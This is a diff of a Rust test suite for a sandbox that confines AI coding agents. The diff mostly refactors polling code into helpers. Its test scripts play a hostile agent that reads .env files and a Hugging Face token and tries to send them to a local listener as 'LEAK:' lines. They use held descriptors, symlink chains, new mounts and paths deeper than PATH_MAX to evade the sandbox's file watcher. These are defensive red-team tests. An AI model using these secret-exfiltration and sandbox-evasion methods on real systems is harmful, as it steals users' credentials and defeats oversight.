     let server = Tcp::new(ip, 443);
     let script =
         format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack earlyhold {how} draft {ip} 443");
-    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
+    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
     let pid = child.id();
-    let start = std::time::Instant::now();
-    while !f.ws.join("held").exists() && start.elapsed() < Duration::from_secs(60) {
-        std::thread::sleep(Duration::from_millis(5));
-    }
-    let held = f.ws.join("held").exists();
+    let held = wait_for_file(&f.ws.join("held"), Duration::from_secs(60));
     if held {
         // The user's tool: `draft` becomes `.env`, then the secret goes in.
         std::fs::rename(f.ws.join("draft"), f.ws.join(".env")).unwrap();
-        let t = std::time::Instant::now();
-        while !marked_by(pid, &f.ws.join(".env")) && t.elapsed() < Duration::from_secs(30) {
-            std::thread::sleep(Duration::from_millis(1));
-        }
         assert!(
-            marked_by(pid, &f.ws.join(".env")),
+            wait_marked_by(pid, &f.ws.join(".env"), Duration::from_secs(30)),
             "the watcher did not mark .env"
         );
         // forkhop: after the scan (about 0.4 s over the fillers' descriptors
@@ -3116,16 +2974,9 @@ fn early_hold_taints(how: &str, ip: &str) {
         // (docs/threat-model.md), not what this attack tries.
         let after = if how == "forkhop" { 4000 } else { 300 };
         std::thread::sleep(Duration::from_millis(after));
-        use std::os::unix::fs::FileExt;
-        let w = std::fs::OpenOptions::new()
-            .write(true)
-            .open(f.ws.join(".env"))
-            .unwrap();
-        w.write_all_at(b"SECRET-ENV-early-held-5150\n", 0).unwrap();
-        drop(w);
+        write_in_place(&f.ws.join(".env"), b"SECRET-ENV-early-held-5150\n");
     }
-    std::fs::write(f.ws.join("go"), "").unwrap();
-    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let o = go_and_wait(&f, child);
     let out = stdout(&o);
     let read = if how == "inflight" || how == "splicepass" {
         // Passed into the queue and closed; after the taint the socket that holds
@@ -3208,34 +3059,19 @@ fn isolated_files_a_descriptor_read_while_the_late_mark_scan_runs_is_read_tainte
     let server = Tcp::new(ip, 443);
     let script = format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack slowscan draft 10 {ip} 443");
     let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-    cmd.env("CLAWLESS_TRACE_DISCOVERY", "1")
-        .stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
+    cmd.env("CLAWLESS_TRACE_DISCOVERY", "1");
+    let child = spawn_piped(cmd);
     let pid = child.id();
-    let start = std::time::Instant::now();
-    while !f.ws.join("held").exists() && start.elapsed() < Duration::from_secs(60) {
-        std::thread::sleep(Duration::from_millis(5));
-    }
-    let held = f.ws.join("held").exists();
+    let held = wait_for_file(&f.ws.join("held"), Duration::from_secs(60));
     let mut late = None;
     if held {
         // The user's tool: `draft` becomes `.env`; the secret goes in while the
         // late-mark scan (over the fillers' descriptors) runs.
         std::fs::rename(f.ws.join("draft"), f.ws.join(".env")).unwrap();
-        let t = std::time::Instant::now();
-        while !marked_by(pid, &f.ws.join(".env")) && t.elapsed() < Duration::from_secs(30) {
-            std::thread::sleep(Duration::from_millis(1));
-        }
+        wait_marked_by(pid, &f.ws.join(".env"), Duration::from_secs(30));
         let marked = std::time::Instant::now();
         std::thread::sleep(Duration::from_millis(30));
-        use std::os::unix::fs::FileExt;
-        let w = std::fs::OpenOptions::new()
-            .write(true)
-            .open(f.ws.join(".env"))
-            .unwrap();
-        w.write_all_at(b"SECRET-ENV-slow-scan-7070\n", 0).unwrap();
-        drop(w);
+        write_in_place(&f.ws.join(".env"), b"SECRET-ENV-slow-scan-7070\n");
         late = Some(marked.elapsed());
     }
     let o = wait_with_deadline(child, Duration::from_secs(120));
@@ -3305,18 +3141,12 @@ fn isolated_the_sandbox_runs_in_a_cgroup_of_its_own_removed_at_the_end() {
     };
     let f = Fixture::new("iso-cgroup");
     let script = "cat /proc/self/cgroup; (sleep 30 & wait) & touch started; i=0; while [ ! -e go ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; echo done";
-    let mut cmd = f.command(&[], &["/bin/sh", "-c", script]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
+    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", script]));
     let pid = child.id();
     let dir = mount
         .join(own.trim_start_matches('/'))
         .join(format!("clawless.{pid}"));
-    let t = std::time::Instant::now();
-    while !f.ws.join("started").exists() && t.elapsed() < Duration::from_secs(60) {
-        std::thread::sleep(Duration::from_millis(5));
-    }
+    wait_for_file(&f.ws.join("started"), Duration::from_secs(60));
     let procs = std::fs::read_to_string(dir.join("cgroup.procs")).unwrap_or_default();
     let procs: Vec<i32> = procs.lines().filter_map(|l| l.parse().ok()).collect();
     // Every process below clawless (the listener and helpers are clawless's own,
@@ -3346,8 +3176,7 @@ fn isolated_the_sandbox_runs_in_a_cgroup_of_its_own_removed_at_the_end() {
             child_ns && sandbox_ns.is_some() && ns(p) == sandbox_ns
         })
         .collect();
-    std::fs::write(f.ws.join("go"), "").unwrap();
-    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let o = go_and_wait(&f, child);
     assert!(stdout(&o).contains("done"), "{}", show(&o));
     let line = stdout(&o)
         .lines()
@@ -3442,14 +3271,8 @@ fn start_tripwired_agent(f: &Fixture, ip: &str) -> std::process::Child {
     let script = format!(
         "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; touch started; i=0; while [ ! -e go ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; echo survived; ./attack isoleak plain .env {ip} 443"
     );
-    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
-    let start = std::time::Instant::now();
-    while !f.ws.join("started").exists() && start.elapsed() < Duration::from_secs(60) {
-        std::thread::sleep(Duration::from_millis(5));
-    }
+    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
+    wait_for_file(&f.ws.join("started"), Duration::from_secs(60));
     child
 }
 
@@ -3507,8 +3330,7 @@ fn isolated_files_a_stopped_clawless_does_not_stall_outside_opens() {
             break;
         }
     }
-    std::fs::write(f.ws.join("go"), "").unwrap();
-    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let o = go_and_wait(&f, child);
     assert!(
         started && marked,
         "the agent did not start, or .env is no tripwire\n{}",
@@ -3622,39 +3444,21 @@ fn isolated_files_a_holder_the_policy_refuses_the_secret_is_killed_when_the_mark
         return;
     }
     let f = Fixture::new("iso-early-killed").with_attack();
-    let pol = f.root.join("unreadable.claw");
-    std::fs::write(&pol, UNREADABLE_SECRETS).unwrap();
-    clawc_is_built();
+    let pol = write_policy(&f, "unreadable", UNREADABLE_SECRETS);
     std::fs::write(f.ws.join("draft"), vec![0u8; 4096]).unwrap();
-    let mut cmd = f.command(
-        &["--policy", pol.to_str().unwrap()],
+    let child = spawn_piped(f.command(
+        &["--policy", &pol],
         &["./attack", "earlyhold", "fd", "draft", "127.77.16.65", "443"],
-    );
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
+    ));
     let pid = child.id();
-    let start = std::time::Instant::now();
-    while !f.ws.join("held").exists() && start.elapsed() < Duration::from_secs(60) {
-        std::thread::sleep(Duration::from_millis(5));
-    }
-    let held = f.ws.join("held").exists();
+    let held = wait_for_file(&f.ws.join("held"), Duration::from_secs(60));
     if held {
         std::fs::rename(f.ws.join("draft"), f.ws.join(".env")).unwrap();
-        let t = std::time::Instant::now();
-        while !marked_by(pid, &f.ws.join(".env")) && t.elapsed() < Duration::from_secs(30) {
-            std::thread::sleep(Duration::from_millis(1));
-        }
+        wait_marked_by(pid, &f.ws.join(".env"), Duration::from_secs(30));
         std::thread::sleep(Duration::from_millis(300));
-        use std::os::unix::fs::FileExt;
-        let w = std::fs::OpenOptions::new()
-            .write(true)
-            .open(f.ws.join(".env"))
-            .unwrap();
-        w.write_all_at(b"SECRET-ENV-never-read-6161\n", 0).unwrap();
+        write_in_place(&f.ws.join(".env"), b"SECRET-ENV-never-read-6161\n");
     }
-    std::fs::write(f.ws.join("go"), "").unwrap();
-    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let o = go_and_wait(&f, child);
     let out = stdout(&o);
     assert!(
         // `held` is the agent's own marker (its stdout may not all get through:
@@ -3718,23 +3522,7 @@ fn isolated_files_fuse_opening_a_tripwire_taints_before_the_first_byte() {
     let ip = "127.77.23.1";
     let server = Tcp::new(ip, 443);
     let o = fuse_run(&f, &[], &["./attack", "hold", "tcp", ip, "443", ".env"], &env);
-    let out = stdout(&o);
-    assert!(
-        out.contains("write before: ok=7"),
-        "the channel works\n{}",
-        show(&o)
-    );
-    assert!(
-        out.contains("open secret: ok="),
-        "the attack did not open it\n{}",
-        show(&o)
-    );
-    assert!(
-        out.contains("write after: errno=32"),
-        "opening did not taint\n{}",
-        show(&o)
-    );
-    assert_eq!(server.received(), "before\n");
+    assert_hold_tainted(&o, &server, "opening");
     let f = with_dotenv("fuse-leak");
     let o = leak_attempt(&f, "127.77.23.2", "plain", ".env", &env);
     assert!(stderr(&o).contains("FUSE tripwire"), "{}", show(&o));
@@ -3775,22 +3563,15 @@ policy fusedeny {
 #[test]
 fn isolated_files_fuse_a_secret_the_policy_denies_is_refused_with_its_errno() {
     let Some(env) = fuse_tripwires() else { return };
-    clawc_is_built();
     let f = Fixture::new("fuse-deny").with_attack();
     std::fs::write(f.ws.join(".key"), "KEY-MATERIAL-91c2\n").unwrap();
-    let file = f.root.join("fusedeny.claw");
-    std::fs::write(&file, FUSE_DENY_POLICY).unwrap();
+    let file = write_policy(&f, "fusedeny", FUSE_DENY_POLICY);
     let ip = "127.77.2.91";
     let server = Tcp::new(ip, 443);
     let script = format!(
         "./attack tcp {ip} 443 PRE-; echo fuse-deny-ran; ./attack isoleak plain .key {ip} 443; ./attack tcp {ip} 443 AFTER"
     );
-    let o = fuse_run(
-        &f,
-        &["--policy", file.to_str().unwrap()],
-        &["/bin/sh", "-c", &script],
-        &env,
-    );
+    let o = fuse_run(&f, &["--policy", &file], &["/bin/sh", "-c", &script], &env);
     let out = stdout(&o);
     assert!(out.contains("fuse-deny-ran"), "{}", show(&o));
     assert!(
@@ -3988,18 +3769,7 @@ fn isolated_files_fuse_a_secret_the_agent_creates_is_a_tripwire() {
         let o = fuse_run(&f, &[], &["/bin/sh", "-c", &script], &env);
         let out = stdout(&o);
         assert!(out.contains("fuse-new-ran"), "{}", show(&o));
-        assert!(
-            out.contains("write before: ok=7"),
-            "the channel works\n{}",
-            show(&o)
-        );
-        assert!(out.contains("open secret: ok="), "{}", show(&o));
-        assert!(
-            out.contains("write after: errno=32"),
-            "opening did not taint\n{}",
-            show(&o)
-        );
-        assert_eq!(server.received(), "before\n");
+        assert_hold_tainted(&o, &server, "opening");
     }
     // Renamed into a secret's name (which taints by itself): covered before the
     // rename returns, too.
@@ -4057,21 +3827,34 @@ fn isolated_files_fuse_a_secret_created_outside_during_the_session_is_a_tripwire
     );
 }
 
-/// Whether `clawless` (pid `pid`) has a fanotify mark on the inode of `path`.
+/// Whether `clawless` (pid `pid`) has a fanotify mark on the inode of `path`
+/// itself (a symlink not followed, unlike [`marked_by`]).
 fn marked(pid: u32, path: &std::path::Path) -> bool {
     use std::os::unix::fs::MetadataExt;
-    let Ok(m) = std::fs::symlink_metadata(path) else {
-        return false;
-    };
-    let ino = format!("ino:{:x} ", m.ino());
-    std::fs::read_dir(format!("/proc/{pid}/fdinfo"))
-        .into_iter()
-        .flatten()
-        .flatten()
-        .any(|e| {
-            std::fs::read_to_string(e.path())
-                .is_ok_and(|t| t.lines().any(|l| l.starts_with("fanotify ") && l.contains(&ino)))
-        })
+    std::fs::symlink_metadata(path).is_ok_and(|m| fanotify_marks(pid, m.ino()))
+}
+
+/// Waits (every 200 µs, up to `limit`) until [`marked`] holds: the watcher's
+/// mark on a secret an outside process just made. Returns whether it does.
+fn wait_marked(pid: u32, path: &std::path::Path, limit: Duration) -> bool {
+    wait_until(limit, Duration::from_micros(200), || marked(pid, path))
+}
+
+/// The end of an `isoleak` run whose secret appeared during the session (after
+/// [`Tcp::wait_pre_taint`]): the read happened (`read`, `isoleak read: N` with
+/// the secret's length), nothing marked `LEAK:` reached `server`, the socket
+/// after the read was refused (`socket: errno=`: tainted), and the kernel decided
+/// opens where it should. `what` names the case in every failure message.
+fn assert_isoleak_read_but_tainted(o: &std::process::Output, server: &Tcp, read: &str, what: &str) {
+    let out = stdout(o);
+    assert!(out.contains(read), "{what}: the read did not happen\n{}", show(o));
+    assert!(
+        !server.received().contains("LEAK:"),
+        "{what}: the secret left\n{}",
+        show(o)
+    );
+    assert!(out.contains("socket: errno="), "{what}: not tainted\n{}", show(o));
+    kernel_decided(o);
 }
 
 /// Removes a directory tree on drop (the system roots' test directories).
@@ -4128,22 +3911,9 @@ fn isolated_files_a_secret_created_outside_under_a_system_root_taints() {
             "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e go ]; do sleep 0.01; done; ./attack isoleak plain {} {ip} 443",
             secret.display()
         );
-        let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-        cmd.stdout(std::process::Stdio::piped())
-            .stderr(std::process::Stdio::piped());
-        let child = cmd.spawn().unwrap();
+        let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
         let pid = child.id();
-        let start = std::time::Instant::now();
-        let mut got = String::new();
-        while start.elapsed() < Duration::from_secs(120) && !got.contains("PRE-TAINT") {
-            got.push_str(&server.received());
-            std::thread::sleep(Duration::from_millis(10));
-        }
-        assert!(
-            got.starts_with("PRE-TAINT-CHANNEL-OK"),
-            "{how} {}: the sandbox did not get to its send: {got:?}",
-            dir.display()
-        );
+        server.wait_pre_taint(&format!("{how} {}", dir.display()));
         // The outside process: during the session, after discovery.
         if *how == "move" {
             std::fs::rename(from.join("app"), dir.join("app")).unwrap();
@@ -4152,22 +3922,19 @@ fn isolated_files_a_secret_created_outside_under_a_system_root_taints() {
         }
         let made = std::time::Instant::now();
         if kernel_opens() {
-            while !marked(pid, &secret) && made.elapsed() < Duration::from_secs(10) {
-                std::thread::sleep(Duration::from_micros(200));
-            }
+            let marked = wait_marked(pid, &secret, Duration::from_secs(10));
             eprintln!(
                 "{how} {}: marked {:?} after the outside change",
                 secret.display(),
                 made.elapsed()
             );
             assert!(
-                marked(pid, &secret),
+                marked,
                 "{how} {}: the watcher did not mark the new secret",
                 secret.display()
             );
         }
-        std::fs::write(f.ws.join("go"), "").unwrap();
-        let o = wait_with_deadline(child, Duration::from_secs(120));
+        let o = go_and_wait(&f, child);
         let out = stdout(&o);
         assert!(
             out.contains("isoleak read: ") && !out.contains("isoleak read: -1"),
@@ -4316,45 +4083,19 @@ fn isolated_files_a_cached_tree_changed_during_the_run_is_found() {
     let script = format!(
         "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e go ]; do sleep 0.01; done; ./attack isoleak plain deep/a/b/.env {ip} 443"
     );
-    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
+    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
     let pid = child.id();
-    let start = std::time::Instant::now();
-    let mut got = String::new();
-    while start.elapsed() < Duration::from_secs(120) && !got.contains("PRE-TAINT") {
-        got.push_str(&server.received());
-        std::thread::sleep(Duration::from_millis(10));
-    }
-    assert!(
-        got.starts_with("PRE-TAINT-CHANNEL-OK"),
-        "the sandbox did not get to its send: {got:?}"
-    );
+    server.wait_pre_taint("cached-tree-changed-during-run");
     let secret = f.ws.join("deep/a/b/.env");
     std::fs::write(&secret, "LEAK:SECRET-created-during-run\n").unwrap();
     if kernel_opens() {
-        let made = std::time::Instant::now();
-        while !marked(pid, &secret) && made.elapsed() < Duration::from_secs(10) {
-            std::thread::sleep(Duration::from_micros(200));
-        }
-        assert!(marked(pid, &secret), "the watcher did not mark the new secret");
+        assert!(
+            wait_marked(pid, &secret, Duration::from_secs(10)),
+            "the watcher did not mark the new secret"
+        );
     }
-    std::fs::write(f.ws.join("go"), "").unwrap();
-    let o = wait_with_deadline(child, Duration::from_secs(120));
-    let out = stdout(&o);
-    assert!(
-        out.contains("isoleak read: 31"),
-        "the read did not happen\n{}",
-        show(&o)
-    );
-    assert!(
-        !server.received().contains("LEAK:"),
-        "the secret left\n{}",
-        show(&o)
-    );
-    assert!(out.contains("socket: errno="), "not tainted\n{}", show(&o));
-    kernel_decided(&o);
+    let o = go_and_wait(&f, child);
+    assert_isoleak_read_but_tainted(&o, &server, "isoleak read: 31", "cached-tree-changed-during-run");
     // The next run starts from the cache written before the creation.
     let o = leak_attempt(&f, "127.77.41.21", "plain", "deep/a/b/.env", &[]);
     kernel_decided(&o);
@@ -4394,21 +4135,9 @@ fn isolated_files_a_secret_on_a_mount_made_during_the_session_taints() {
     let script = format!(
         "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e go ]; do sleep 0.01; done; ./attack isoleak plain shared/vol/.env {ip} 443"
     );
-    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
+    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
     let pid = child.id();
-    let start = std::time::Instant::now();
-    let mut got = String::new();
-    while start.elapsed() < Duration::from_secs(120) && !got.contains("PRE-TAINT") {
-        got.push_str(&server.received());
-        std::thread::sleep(Duration::from_millis(10));
-    }
-    assert!(
-        got.starts_with("PRE-TAINT-CHANNEL-OK"),
-        "the sandbox did not get to its send: {got:?}"
-    );
+    server.wait_pre_taint("mount-made-during-session");
     // Filled before it is mounted there, outside every root: no creation below a
     // root is seen, only the mount.
     let staging = std::path::PathBuf::from(format!("/var/lib/clawless-mount-{pid}"));
@@ -4437,33 +4166,20 @@ fn isolated_files_a_secret_on_a_mount_made_during_the_session_taints() {
     let secret = shared.join("vol/.env");
     if kernel_opens() {
         let made = std::time::Instant::now();
-        while !marked(pid, &secret) && made.elapsed() < Duration::from_secs(10) {
-            std::thread::sleep(Duration::from_micros(200));
-        }
+        let marked = wait_marked(pid, &secret, Duration::from_secs(10));
         eprintln!(
             "the secret on the new mount was marked {:?} after the mount",
             made.elapsed()
         );
-        assert!(
-            marked(pid, &secret),
-            "the watcher did not mark the secret on the new mount"
-        );
+        assert!(marked, "the watcher did not mark the secret on the new mount");
     }
-    std::fs::write(f.ws.join("go"), "").unwrap();
-    let o = wait_with_deadline(child, Duration::from_secs(120));
-    let out = stdout(&o);
-    assert!(
-        out.contains("isoleak read: 27"),
-        "the read did not happen (was the mount propagated?)\n{}",
-        show(&o)
+    let o = go_and_wait(&f, child);
+    assert_isoleak_read_but_tainted(
+        &o,
+        &server,
+        "isoleak read: 27",
+        "mount-made-during-session (was the mount propagated?)",
     );
-    assert!(
-        !server.received().contains("LEAK:"),
-        "the secret left\n{}",
-        show(&o)
-    );
-    assert!(out.contains("socket: errno="), "not tainted\n{}", show(&o));
-    kernel_decided(&o);
 }
 
 /// watcher-long-path (red team round 5): a secret an outside process creates
@@ -4494,20 +4210,8 @@ fn isolated_files_a_secret_created_outside_deeper_than_path_max_taints() {
          {cds}; {attack} isoleak plain .env {ip} 443"
     );
     // bash: dash's `cd` refuses a path past PATH_MAX.
-    let mut cmd = f.command(&[], &["/bin/bash", "-c", &script]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
-    let start = std::time::Instant::now();
-    let mut got = String::new();
-    while start.elapsed() < Duration::from_secs(120) && !got.contains("PRE-TAINT") {
-        got.push_str(&server.received());
-        std::thread::sleep(Duration::from_millis(10));
-    }
-    assert!(
-        got.starts_with("PRE-TAINT-CHANNEL-OK"),
-        "the sandbox did not get to its send: {got:?}"
-    );
+    let child = spawn_piped(f.command(&[], &["/bin/bash", "-c", &script]));
+    let mut got = server.wait_pre_taint("watcher-long-path");
     // The outside process, during the session: the secret, deep down.
     let wrote = std::process::Command::new("/bin/bash")
         .arg("-c")
@@ -4569,16 +4273,9 @@ fn isolated_files_a_secret_named_link_made_outside_during_the_session_taints() {
                  ./attack isoleak plain .env {ip} 443"
             )
         };
-        let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-        cmd.stdout(std::process::Stdio::piped())
-            .stderr(std::process::Stdio::piped());
-        let child = cmd.spawn().unwrap();
+        let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
         let pid = child.id();
-        let start = std::time::Instant::now();
-        while !f.ws.join("held").exists() && start.elapsed() < Duration::from_secs(60) {
-            std::thread::sleep(Duration::from_millis(5));
-        }
-        let held = f.ws.join("held").exists();
+        let held = wait_for_file(&f.ws.join("held"), Duration::from_secs(60));
         if held {
             // The outside process: the link, then (held) the secret through it.
             if how == "dirlate" {
@@ -4591,24 +4288,18 @@ fn isolated_files_a_secret_named_link_made_outside_during_the_session_taints() {
                 std::os::unix::fs::symlink("config/dev-settings", f.ws.join(".env")).unwrap();
             }
             let t = std::time::Instant::now();
-            while !marked_by(pid, &target) && t.elapsed() < Duration::from_secs(30) {
-                std::thread::sleep(Duration::from_millis(1));
-            }
+            let marked = wait_marked_by(pid, &target, Duration::from_secs(30));
             eprintln!(
                 "{how}: the link's target was marked {:?} after the link",
                 t.elapsed()
             );
-            assert!(
-                marked_by(pid, &target),
-                "{how}: the watcher did not mark the link's target"
-            );
+            assert!(marked, "{how}: the watcher did not mark the link's target");
             if how != "read" {
                 std::thread::sleep(Duration::from_millis(300));
                 std::fs::write(f.ws.join(".env"), "SECRET-link-held-r5\n").unwrap();
             }
         }
-        std::fs::write(f.ws.join("go"), "").unwrap();
-        let o = wait_with_deadline(child, Duration::from_secs(120));
+        let o = go_and_wait(&f, child);
         let read = if how != "read" {
             "earlyhold read: 20"
         } else {
@@ -4675,33 +4366,22 @@ fn a_file_created_during_the_session_at_the_end_of_a_secret_name_is_the_secret()
             target.display()
         );
         let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-        cmd.env_remove("XDG_CACHE_HOME")
-            .stdout(std::process::Stdio::piped())
-            .stderr(std::process::Stdio::piped());
-        let child = cmd.spawn().unwrap();
+        cmd.env_remove("XDG_CACHE_HOME");
+        let child = spawn_piped(cmd);
         let pid = child.id();
-        let start = std::time::Instant::now();
-        while !f.ws.join("held").exists() && start.elapsed() < Duration::from_secs(60) {
-            std::thread::sleep(Duration::from_millis(5));
-        }
-        let held = f.ws.join("held").exists();
+        let held = wait_for_file(&f.ws.join("held"), Duration::from_secs(60));
         if held {
             // The user, outside: `huggingface-cli login`, or writing `.env`.
             std::fs::write(&written, "SECRET-named-later-1\n").unwrap();
             if kernel_opens() {
-                let t = std::time::Instant::now();
-                while !marked_by(pid, &target) && t.elapsed() < Duration::from_secs(30) {
-                    std::thread::sleep(Duration::from_millis(1));
-                }
                 assert!(
-                    marked_by(pid, &target),
+                    wait_marked_by(pid, &target, Duration::from_secs(30)),
                     "{how}: the watcher did not mark {}",
                     target.display()
                 );
             }
         }
-        std::fs::write(f.ws.join("go"), "").unwrap();
-        let o = wait_with_deadline(child, Duration::from_secs(120));
+        let o = go_and_wait(&f, child);
         assert_read_but_tainted(&o, &server.received(), held, "isoleak read: 21", how);
     }
 }
@@ -4731,15 +4411,8 @@ fn a_link_of_a_secret_named_chain_made_again_names_its_new_end() {
             "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; echo notes > notes.txt; {relink} && touch held; {wait}; \
              ./attack isoleak plain notes.txt {ip} 443"
         );
-        let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-        cmd.stdout(std::process::Stdio::piped())
-            .stderr(std::process::Stdio::piped());
-        let child = cmd.spawn().unwrap();
-        let start = std::time::Instant::now();
-        while !f.ws.join("held").exists() && start.elapsed() < Duration::from_secs(60) {
-            std::thread::sleep(Duration::from_millis(5));
-        }
-        let held = f.ws.join("held").exists();
+        let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
+        let held = wait_for_file(&f.ws.join("held"), Duration::from_secs(60));
         if held {
             // The user, outside: writes `.env` (through the chain, into notes.txt).
             std::fs::write(f.ws.join(".env"), "SECRET-relinked-r6-1\n").unwrap();
@@ -4748,8 +4421,7 @@ fn a_link_of_a_secret_named_chain_made_again_names_its_new_end() {
                 std::thread::sleep(Duration::from_millis(300));
             }
         }
-        std::fs::write(f.ws.join("go"), "").unwrap();
-        let o = wait_with_deadline(child, Duration::from_secs(120));
+        let o = go_and_wait(&f, child);
         assert_read_but_tainted(&o, &server.received(), held, "isoleak read: 21", how);
     }
 }
@@ -4808,26 +4480,14 @@ fn dir_link_names_a_held_file(ip: &str, how: &str) {
          key=$(cat <&3); echo \"held: $key\"; ./attack tcp {ip} 443 \"LEAK:$key\""
     );
     let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-    cmd.env_remove("XDG_CACHE_HOME")
-        .stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
-    let start = std::time::Instant::now();
-    while !f.ws.join("named").exists() && start.elapsed() < Duration::from_secs(60) {
-        std::thread::sleep(Duration::from_millis(5));
-    }
-    let named = f.ws.join("named").exists();
+    cmd.env_remove("XDG_CACHE_HOME");
+    let child = spawn_piped(cmd);
+    let named = wait_for_file(&f.ws.join("named"), Duration::from_secs(60));
     if named {
         // The user, outside: `huggingface-cli login`, in place.
-        use std::os::unix::fs::FileExt;
-        let w = std::fs::OpenOptions::new()
-            .write(true)
-            .open(f.home.join(".cache/huggingface/token"))
-            .unwrap();
-        w.write_all_at(b"hf_SECRETTOKEN\n", 0).unwrap();
+        write_in_place(&f.home.join(".cache/huggingface/token"), b"hf_SECRETTOKEN\n");
     }
-    std::fs::write(f.ws.join("go"), "").unwrap();
-    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let o = go_and_wait(&f, child);
     let out = stdout(&o);
     let got = server.received();
     assert!(named, "{how}: the agent could not make the link\n{}", show(&o));
